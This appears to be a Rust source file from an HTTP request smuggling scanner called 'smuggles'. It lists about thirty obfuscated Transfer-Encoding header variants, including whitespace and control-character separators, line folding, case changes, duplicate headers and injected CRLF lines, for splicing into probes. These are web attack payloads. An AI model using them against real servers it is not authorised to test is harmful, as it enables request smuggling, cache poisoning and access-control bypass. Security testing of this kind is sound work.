// File: mutation.rs
// SPDX-License-Identifier: MIT OR Apache-2.0
//
// Copyright (c) 2025
// - The smuggles developers

use std::collections::BTreeMap;

// Each entry is the literal header bytes spliced into a probe in place of a
// canonical `Transfer-Encoding: chunked` line. No entry carries the
// terminating CRLF; the probe templates add it.
const CATALOG: &[(&str, &str)] = &[
    ("vanilla", "Transfer-Encoding: chunked"),
    ("separator-none", "Transfer-Encoding:chunked"),
    ("separator-tab", "Transfer-Encoding:\tchunked"),
    ("separator-vtab", "Transfer-Encoding:\x0bchunked"),
    ("separator-formfeed", "Transfer-Encoding:\x0cchunked"),
    ("separator-cr", "Transfer-Encoding:\rchunked"),
    ("space-before-colon", "Transfer-Encoding : chunked"),
    ("tab-before-colon", "Transfer-Encoding\t: chunked"),
    ("lineprefix-space", " Transfer-Encoding: chunked"),
    ("lineprefix-tab", "\tTransfer-Encoding: chunked"),
    ("lineprefix-vtab", "\x0bTransfer-Encoding: chunked"),
    ("lineprefix-formfeed", "\x0cTransfer-Encoding: chunked"),
    ("linefold-space", "Transfer-Encoding:\r\n chunked"),
    ("linefold-tab", "Transfer-Encoding:\r\n\tchunked"),
    ("name-lowercase", "transfer-encoding: chunked"),
    ("name-halfcase", "Transfer-encoding: chunked"),
    ("name-uppercase", "TRANSFER-ENCODING: chunked"),
    ("name-underscore", "Transfer_Encoding: chunked"),
    ("value-leading-space", "Transfer-Encoding:  chunked"),
    ("value-trailing-space", "Transfer-Encoding: chunked "),
    ("value-quoted", "Transfer-Encoding: \"chunked\""),
    ("value-prefix", "Transfer-Encoding: xchunked"),
    ("value-suffix", "Transfer-Encoding: chunkedx"),
    ("value-double", "Transfer-Encoding: chunked,chunked"),
    ("value-double-space", "Transfer-Encoding: chunked, chunked"),
    ("value-double-tab", "Transfer-Encoding: chunked\tchunked"),
    ("value-crlf-header", "Transfer-Encoding: chunked\r\nX: y"),
    ("duplicate-identity", "Transfer-Encoding: identity\r\nTransfer-Encoding: chunked"),
    ("duplicate-reversed", "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity"),
    ("smuggled-before", "X: y\r\nTransfer-Encoding: chunked"),
];

/// All known Transfer-Encoding obfuscations, keyed by a stable name that
/// survives across runs so enable/disable filters and log lines stay
/// comparable.
pub fn generate() -> BTreeMap<String, String> {
    CATALOG
        .iter()
        .map(|(name, header)| (name.to_string(), header.to_string()))
        .collect()
}
